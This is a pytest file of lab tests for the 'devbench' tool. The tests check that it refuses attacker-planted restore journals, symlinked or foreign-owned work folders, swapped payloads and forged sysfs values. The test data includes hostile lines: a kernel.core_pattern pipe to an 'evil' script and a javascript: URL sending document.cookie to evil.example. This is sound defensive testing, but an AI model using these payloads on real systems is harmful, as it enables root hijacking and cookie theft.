"""The trust boundary (issue 16) against the real lab devices, over adb and SSH: nothing on a
device can turn devbench's root into anyone's.

Every case plants what an attacker who can write a device's work folder (or a shared /tmp)
would plant, then runs devbench's real CLI or its real transports, and checks that devbench
refuses in one line naming the device and step, and that a canary proves nothing was written
or run. The journals are replayed against a STAND-IN sysfs/procfs tree inside the lab device
(tests/standins/android_device.py), reached only through devbench's adb and SSH transports.
The local target's cases are in tests/unit/device/test_device_restore.py and test_workdir.py (this
machine's real sh); report links in tests/unit/config/test_untrusted_values.py and below.
"""

from __future__ import annotations

import hashlib
import json
import socket
from pathlib import Path

import pytest

from devbench.config import SshOptions
from devbench.device.journal import Entry, Journal
from devbench.device.probe import probe
from devbench.payload.build import verified
from devbench.targets.ssh import SshTarget
from tests.lab import lines, runs
from tests.standins import android_device as standin

TREE = "/data/local/tmp/trust-tree"
SCRATCH = "/tmp/trust-scratch"  # the symlink targets and canaries of these tests
DEAD_PID = 2 ** 22 + 12345  # above pid_max's default: no process has it
NOBODY = 65534

pytestmark = pytest.mark.lab


def sh(target, script: str, *args: str) -> str:
    res = target.run(["sh", "-c", script, "sh", *args], timeout=60)
    assert res.ok, (script, res.stdout, res.stderr)
    return res.stdout


def ssh_target(s) -> SshTarget:
    return SshTarget(
        "board", SshOptions(host=s.host, port=s.port, user=s.user, key=str(s.key), known_hosts=str(s.known_hosts))
    )


@pytest.fixture
def device(adb_target):
    """The stand-in tree and a scratch folder on the lab device; removed afterwards."""
    files = standin.tree_files()
    files["proc/sys/kernel/core_pattern"] = "core"
    standin.lay_out(adb_target, TREE, files)
    sh(adb_target, 'rm -rf "$1" && mkdir -p "$1" && printf "untouched\\n" > "$1/canary"', SCRATCH)
    yield adb_target
    adb_target.run(["rm", "-rf", TREE, SCRATCH], timeout=30)


def target_line(transport: str, workdir: str, adb_device_serial: str, adb_server, ssh_device) -> str:
    if transport == "adb":
        return lines.adb_line("phone", adb_device_serial, adb_server.port)[:-2] + f", workdir: {workdir}}}}}"
    return lines.ssh_line("phone", ssh_device, workdir=workdir)


def config(tmp_path: Path, line: str, root: str = "auto") -> Path:
    cfg = tmp_path / "trust.yaml"
    cfg.write_text(f"""\
run: {{name: trust, output: {tmp_path / 'out'}}}
targets:
  - {line}
device: {{root: {root}, sysfs: {TREE}/sys, procfs: {TREE}/proc}}
benchmark:
  vmas: 256
  forks: 4
  warmup: 0
  batches: 1
  scenarios:
    - {{name: unpopulated, pages: 0}}
""")
    return cfg


def journal_text(entries: list[Entry], **kw) -> str:
    fields = dict(run_id="planted", host=socket.gethostname(), pid=DEAD_PID, started="2026-01-01T00:00:00+00:00",
                  sysfs=f"{TREE}/sys", procfs=f"{TREE}/proc", entries=entries)
    fields.update(kw)
    return Journal(**fields).encode()


def plant(device, workdir: str, text: str) -> None:
    sh(
        device,
        'rm -rf "$1" && mkdir -m 700 "$1" && printf "%s" "$2" > "$1/restore-journal.json" && '
        'chmod 600 "$1/restore-journal.json"',
        workdir,
        text,
    )


def state(device, workdir: str) -> dict[str, str]:
    """The tree, the scratch folder (canaries) and the journal, as the device has them."""
    out = standin.read_tree(device, TREE)
    out.update({f"scratch/{k}": v for k, v in standin.read_tree(device, SCRATCH).items()})
    out["journal"] = sh(device, 'cat "$1/restore-journal.json" 2>/dev/null; true', workdir)
    return out


def restore_refused(tmp_path, devbench_cmd, device, workdir: str, line: str, words: str, root: str = "auto") -> str:
    before = state(device, workdir)
    res = runs.run(
        [*devbench_cmd, "restore", str(config(tmp_path, line, root))], capture_output=True, text=True, timeout=120
    )
    out = res.stdout.strip().splitlines()
    assert res.returncode == 1 and "Traceback" not in res.stderr, (res.stdout, res.stderr)
    assert len(out) == 1 and out[0].startswith("phone: not restored: phone: ") and words in out[0], out
    assert state(device, workdir) == before  # nothing written, the journal kept, no canary touched
    return out[0]


TRANSPORTS = ["adb", "ssh"]


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_planted_core_pattern_journal_is_refused(
    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport
):
    workdir = f"/tmp/trust-{transport}-core"
    plant(device, workdir, journal_text([Entry("file", "kernel.core_pattern", f"{TREE}/proc/sys/kernel/core_pattern",
                                               f"|{SCRATCH}/evil %p")]))
    try:
        restore_refused(
            tmp_path,
            devbench_cmd,
            device,
            workdir,
            target_line(transport, workdir, adb_device_serial, adb_server, ssh_device),
            "is not a setting devbench makes",
        )
        assert standin.read_tree(device, TREE)["proc/sys/kernel/core_pattern"] == "core"
    finally:
        device.run(["rm", "-rf", workdir], timeout=30)


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_planted_journal_with_a_symlinked_root_is_refused(tmp_path, devbench_cmd, device, adb_device_serial, adb_server,
                                                          ssh_device, transport):
    """The reproduced attack: the journal's own sysfs is a `sys` that links elsewhere."""
    workdir = f"/tmp/trust-{transport}-link"
    sh(device, 'mkdir -p "$1/evil" "$1/outside/devices/system/cpu/cpu1" && ln -s "$1/outside" "$1/evil/sys" && '
               'printf "canary\\n" > "$1/outside/devices/system/cpu/cpu1/online"', SCRATCH)
    plant(
        device,
        workdir,
        journal_text(
            [Entry("file", "cpu1 online", f"{SCRATCH}/evil/sys/devices/system/cpu/cpu1/online", "1")],
            sysfs=f"{SCRATCH}/evil/sys",
        ),
    )
    try:
        line = restore_refused(tmp_path, devbench_cmd, device, workdir,
                               target_line(transport, workdir, adb_device_serial, adb_server, ssh_device),
                               "is not the config's device.sysfs")
        assert f"{SCRATCH}/evil/sys" in line
    finally:
        device.run(["rm", "-rf", workdir], timeout=30)


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_planted_journal_with_a_foreign_root_prefix_is_refused(
    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport
):
    """`device.root: never` holds whatever root method the journal names."""
    workdir = f"/tmp/trust-{transport}-prefix"
    plant(
        device,
        workdir,
        journal_text(
            [Entry("file", "cpu1 online", f"{TREE}/sys/devices/system/cpu/cpu1/online", "1")],
            root_prefix=("sudo", "-n"),
        ),
    )
    try:
        line = target_line(transport, workdir, adb_device_serial, adb_server, ssh_device)
        restore_refused(tmp_path, devbench_cmd, device, workdir, line,
                        "device.root is 'never' and gives no root here: nothing written", root="never")
    finally:
        device.run(["rm", "-rf", workdir], timeout=30)


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_planted_journal_of_a_wrong_owner_is_refused(
    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport
):
    workdir = f"/tmp/trust-{transport}-owner"
    plant(
        device, workdir, journal_text([Entry("file", "cpu1 online", f"{TREE}/sys/devices/system/cpu/cpu1/online", "1")])
    )
    sh(device, 'chown "$2:$2" "$1/restore-journal.json"', workdir, str(NOBODY))
    try:
        line = target_line(transport, workdir, adb_device_serial, adb_server, ssh_device)
        restore_refused(tmp_path, devbench_cmd, device, workdir, line,
                        f"is owned by uid {NOBODY}, neither devbench's uid 0 nor root")
    finally:
        device.run(["rm", "-rf", workdir], timeout=30)


@pytest.mark.parametrize("transport", TRANSPORTS)
@pytest.mark.parametrize("case", ["symlink", "foreign owner", "world-writable"])
def test_hostile_work_folders_are_refused_by_run(
    tmp_path, devbench_cmd, device, adb_device_serial, adb_server, ssh_device, transport, case
):
    """A work folder someone else made first: `devbench run` stops at it (one line in the results
    and on stderr), and writes nothing into it or through it."""
    workdir = f"/tmp/trust-{transport}-folder"
    if case == "symlink":
        sh(device, 'rm -rf "$2" && mkdir -p "$1/elsewhere" && ln -s "$1/elsewhere" "$2"', SCRATCH, workdir)
        words = "is a symbolic link: refused"
    elif case == "foreign owner":
        sh(device, 'rm -rf "$1" && mkdir -m 700 "$1" && chown "$2:$2" "$1"', workdir, str(NOBODY))
        words = f"is owned by uid {NOBODY}, not by devbench's uid 0: refused"
    else:
        sh(device, 'rm -rf "$1" && mkdir "$1" && chmod 1777 "$1"', workdir)
        words = "is writable by others (mode 1777): refused"
    before = sh(device, 'ls -la "$1/" "$2/"; true', workdir, SCRATCH)
    try:
        res = runs.run([*devbench_cmd, "run", str(config(tmp_path, target_line(transport, workdir, adb_device_serial,
                                                                              adb_server, ssh_device))), "--quiet"],
                       capture_output=True, text=True, timeout=300)
        assert res.returncode == 1 and "Traceback" not in res.stderr, res.stderr
        [run_dir] = [p for p in (tmp_path / "out").iterdir() if not p.is_symlink()]  # (out/latest is a link)
        errors = json.loads((run_dir / "results.json").read_text())["errors"]
        assert [e for e in errors if words in e["message"] and e["kind"] == "work-folder-refused"], errors
        assert all("\n" not in e["message"] for e in errors)
        assert sh(device, 'ls -la "$1/" "$2/"; true', workdir, SCRATCH) == before  # nothing written in or through it
    finally:
        device.run(["rm", "-rf", workdir], timeout=30)


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_a_payload_swapped_after_push_is_not_run(tmp_path, device, ssh_device, transport):
    """The checksum is checked where the payload runs, right before exec: a file swapped after
    its push (here: a script that would create a canary) exits 126 with one line, and runs not."""
    target = device if transport == "adb" else ssh_target(ssh_device)
    workdir = f"/tmp/trust-{transport}-payload"
    canary = f"{SCRATCH}/swapped-ran"
    good = tmp_path / "good"
    good.write_text("#!/bin/sh\necho payload-ran \"$@\"\n")
    evil = tmp_path / "evil"
    evil.write_text(f"#!/bin/sh\ntouch {canary}\n")
    remote = f"{workdir}/forkbench-{hashlib.sha256(good.read_bytes()).hexdigest()}"
    sh(device, 'rm -rf "$1" && mkdir -m 700 "$1"', workdir)
    try:
        target.push(good, remote, 0o755)
        res = target.run([*verified(remote), "--vmas", "1"], timeout=60)
        # the check lets it run
        assert res.ok and res.stdout.strip() == "payload-ran --vmas 1", (res.stdout, res.stderr)
        target.push(evil, remote, 0o755)  # swapped
        res = target.run([*verified(remote), "--vmas", "1"], timeout=60)
        [said] = (res.stderr or res.stdout).strip().splitlines()
        assert res.exit_code == 126 and said.startswith(f"devbench: {remote} does not match its checksum"), (
            res.stdout,
            res.stderr,
        )
        assert sh(device, '[ -e "$1" ] && echo ran; true', canary) == ""
    finally:
        device.run(["rm", "-rf", workdir], timeout=30)
        if transport == "ssh":
            target.close()


FORGED = "\nuid=1000\nmax_map_count=99999999\nmachine=riscv64\nprop:ro.build.version.sdk=34"


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_forged_facts_stay_data(device, ssh_device, transport):
    """sysfs/procfs values with newlines in them, probed over the real transport: each stays the
    value of its own fact (cut at its first newline) and adds none."""
    files = standin.tree_files()
    files["sys/class/thermal/thermal_zone0/type"] = "cpu" + FORGED
    files["sys/devices/system/cpu/online"] = "0-3" + FORGED
    files["sys/devices/system/cpu/cpufreq/policy0/scaling_governor"] = "schedutil" + FORGED
    files["proc/sys/kernel/kptr_restrict"] = "2\\nuid=1000"
    standin.lay_out(device, TREE, files)
    sh(
        device,
        'mkdir -p "$1/sys/devices/system/cpu/cpufreq/policy1$2" && '
        'echo performance > "$1/sys/devices/system/cpu/cpufreq/policy1$2/scaling_governor"',
        TREE,
        FORGED,
    )
    target = device if transport == "adb" else ssh_target(ssh_device)
    try:
        f = probe(target, f"{TREE}/sys", f"{TREE}/proc")
    finally:
        if transport == "ssh":
            target.close()
    assert f.uid == 0 and f.root and f.max_map_count == 1000 and f.machine != "riscv64" and not f.android
    assert f.thermal[0].type == "cpu" and f.cpus_online == "0-3" and f.kptr_restrict is None
    assert [p.name for p in f.cpufreq] == ["policy0", "policy4"] and f.cpufreq[0].governor == "schedutil"


def test_adb_shell_v1_believes_only_its_own_exit_marker(device):
    """The real adbd driven over shell protocol v1 (as devices without shell_v2 are): an output
    line that looks like the exit marker is output, not an exit code, and no traceback."""
    device.features.discard("shell_v2")
    res = device.run(
        ["sh", "-c", 'echo "__devbench_exit=x"; echo "__devbench_exit=0"; printf tail; exit 3'], timeout=30
    )
    assert res.exit_code == 3 and res.stdout.splitlines() == ["__devbench_exit=x", "__devbench_exit=0", "tail"], res
    res = device.run(["true"], timeout=30)
    assert res.exit_code == 0 and res.stdout == ""


def test_crafted_results_json_renders_no_foreign_link(tmp_path, devbench_cmd):
    """`devbench report` on a results.json whose console_log and profile files are links out."""
    from tests.unit.report.test_report import data_with

    d = data_with()
    d["targets"][0].update(
        transport="qemu",
        transport_info={
            "arch": "x86_64",
            "kernel": "k",
            "kernel_config_source": None,
            "boot_seconds": 1,
            "boot_attempts": 1,
            "console_log": "javascript:fetch('//evil.example/'+document.cookie)",
        },
    )
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "results.json").write_text(json.dumps(d))
    res = runs.run(
        [*devbench_cmd, "report", str(run_dir), "--format", "html"], capture_output=True, text=True, timeout=120
    )
    assert res.returncode == 0, res.stderr
    html = (run_dir / "report.html").read_text()
    assert "javascript:" not in html and "evil.example" not in html and "console log</a>" not in html


def test_the_lab_device_may_write_only_devbench_sysctls_of_the_shared_kernel(device, lab_device):
    """The lab device's root is this machine's root on a shared kernel: /proc/sys is read-only
    in it but for vm.max_map_count and kernel.perf_event_paranoid (what devbench changes and
    the lab tests check restored); kernel.kptr_restrict is bound writable too, but its writer
    needs CAP_SYS_ADMIN, which the device's root lacks; sysrq-trigger is read-only."""
    host_core = Path("/proc/sys/kernel/core_pattern").read_text()
    res = device.run(["sh", "-c", 'echo "|/tmp/evil %p" > /proc/sys/kernel/core_pattern'], timeout=30)
    assert res.exit_code != 0 and "Read-only file system" in (res.stderr + res.stdout), res
    assert Path("/proc/sys/kernel/core_pattern").read_text() == host_core
    for path in ("/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
        if Path(path).exists():  # (no sysrq-trigger without MAGIC_SYSRQ)
            res = device.run(["sh", "-c", 'printf "" > "$1"', "sh", path], timeout=30)
            assert res.exit_code != 0, path
    for name in ("vm/max_map_count", "kernel/perf_event_paranoid", "kernel/kptr_restrict"):
        now = Path(f"/proc/sys/{name}").read_text().strip()
        res = device.run(["sh", "-c", 'printf "%s\\n" "$2" > "$1"', "sh", f"/proc/sys/{name}", now], timeout=30)
        if name == "kernel/kptr_restrict":
            assert res.exit_code != 0, res  # EPERM (dash's printf calls it "I/O error")
        else:
            assert res.ok, (name, res.stderr)  # written (the same value: nothing changes)


# -- the local target: this machine as the device, through the CLI ---------------------------------

def local_config(tmp_path: Path, workdir: Path, tree: Path) -> Path:
    cfg = tmp_path / "local.yaml"
    cfg.write_text(f"""\
run: {{name: trust-local, output: {tmp_path / 'out'}}}
targets:
  - {{name: here, local: {{workdir: {workdir}}}}}
device: {{sysfs: {tree}/sys, procfs: {tree}/proc}}
benchmark:
  vmas: 256
  forks: 4
  warmup: 0
  batches: 1
  scenarios:
    - {{name: unpopulated, pages: 0}}
""")
    return cfg


def test_local_target_planted_core_pattern_journal_is_refused(tmp_path, devbench_cmd):
    tree = tmp_path / "tree"
    (tree / "proc/sys/kernel").mkdir(parents=True)
    (tree / "sys").mkdir()
    core = tree / "proc/sys/kernel/core_pattern"
    core.write_text("core\n")
    work = tmp_path / "work"
    work.mkdir(mode=0o700)
    journal = work / "restore-journal.json"
    journal.write_text(Journal("planted", socket.gethostname(), DEAD_PID, "2026-01-01T00:00:00+00:00", f"{tree}/sys",
                               f"{tree}/proc", entries=[Entry("file", "kernel.core_pattern", str(core),
                                                              f"|{tmp_path}/evil %p")]).encode())
    text = journal.read_text()
    res = runs.run(
        [*devbench_cmd, "restore", str(local_config(tmp_path, work, tree))], capture_output=True, text=True, timeout=60
    )
    [line] = res.stdout.strip().splitlines()
    assert res.returncode == 1 and line.startswith("here: not restored: here: restore journal: ") and \
        "is not a setting devbench makes" in line, (res.stdout, res.stderr)
    assert core.read_text() == "core\n" and journal.read_text() == text


def test_local_target_symlinked_work_folder_is_refused_by_run(tmp_path, devbench_cmd):
    tree = tmp_path / "tree"
    (tree / "sys").mkdir(parents=True)
    (tree / "proc").mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    work = tmp_path / "work"
    work.symlink_to(elsewhere)
    res = runs.run(
        [*devbench_cmd, "run", str(local_config(tmp_path, work, tree)), "--quiet"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert res.returncode == 1 and "Traceback" not in res.stderr, res.stderr
    [run_dir] = [p for p in (tmp_path / "out").iterdir() if not p.is_symlink()]
    errors = json.loads((run_dir / "results.json").read_text())["errors"]
    assert [
        e
        for e in errors
        if e["kind"] == "work-folder-refused" and f"{work} is a symbolic link: refused" in e["message"]
    ], errors
    assert list(elsewhere.iterdir()) == [] and work.is_symlink()
